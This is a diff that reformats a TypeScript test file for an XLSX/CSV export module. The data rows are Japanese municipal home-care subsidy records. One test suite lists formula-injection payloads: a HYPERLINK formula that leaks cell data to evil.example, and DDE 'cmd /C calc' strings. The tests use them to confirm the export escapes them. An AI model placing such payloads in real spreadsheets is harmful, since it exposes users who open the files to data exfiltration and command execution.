@@ -21,7 +21,14 @@ const columns: ColumnSpec[] = [
 ];
 
 const rows: SheetSpec['rows'] = [
-  { name: '在宅医療推進センター（新潟市医師会）', city: '新潟市', amount: 12_345_678, rate: 0.5, done: true, note: '変更交付申請あり, 9月' },
+  {
+    name: '在宅医療推進センター（新潟市医師会）',
+    city: '新潟市',
+    amount: 12_345_678,
+    rate: 0.5,
+    done: true,
+    note: '変更交付申請あり, 9月',
+  },
   { name: '"みなと"訪問看護ステーション', city: '長岡市', amount: 980_000, rate: 0.75, done: false, note: '1行目\n2行目' },
   { name: '佐渡地域連携室', city: '佐渡市', amount: 0, rate: 1, done: null, note: undefined },
 ];
@@ -92,7 +99,15 @@ describe('writeXlsx', () => {
   });
 
   it('makes sheet names valid for Excel, keeping them readable and unique', async () => {
-    const names = ['令和6/7年度[案]:集計*?', "'引用'", '在宅医療・介護連携推進事業 市町村別 実施状況調査 結果一覧（速報値）', 'history', '集計', '集計', ''];
+    const names = [
+      '令和6/7年度[案]:集計*?',
+      "'引用'",
+      '在宅医療・介護連携推進事業 市町村別 実施状況調査 結果一覧（速報値）',
+      'history',
+      '集計',
+      '集計',
+      '',
+    ];
     const workbook = await load(await writeXlsx(names.map((name) => ({ name, columns, rows: [] }))));
     expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
       '令和6／7年度［案］：集計＊？',
@@ -130,12 +145,26 @@ describe('writeCsv', () => {
 });
 
 describe('formulas in exported text never run in Excel', () => {
-  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', "'=1+1"];
-  const columnsOf: ColumnSpec[] = [{ key: 'name', header: '名称' }, { key: 'amount', header: '金額' }];
+  const attacks = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    "'=1+1",
+  ];
+  const columnsOf: ColumnSpec[] = [
+    { key: 'name', header: '名称' },
+    { key: 'amount', header: '金額' },
+  ];
   const attackRows: SheetSpec['rows'] = attacks.map((name, i) => ({ name, amount: -1000 * (i + 1) }));
 
   it('writes text starting with = + - @ TAB CR behind a single quote in CSV, and keeps numbers as numbers', () => {
-    const lines = writeCsv(columnsOf, [...attackRows, { name: '-5', amount: 12.5 }]).subarray(3).toString('utf8').split('\r\n');
+    const lines = writeCsv(columnsOf, [...attackRows, { name: '-5', amount: 12.5 }])
+      .subarray(3)
+      .toString('utf8')
+      .split('\r\n');
     expect(lines.slice(1, 6)).toEqual([
       `"'=HYPERLINK(""http://evil.example/?x=""&A1,""詳細"")",-1000`,
       `'+cmd|' /C calc'!A0,-2000`,
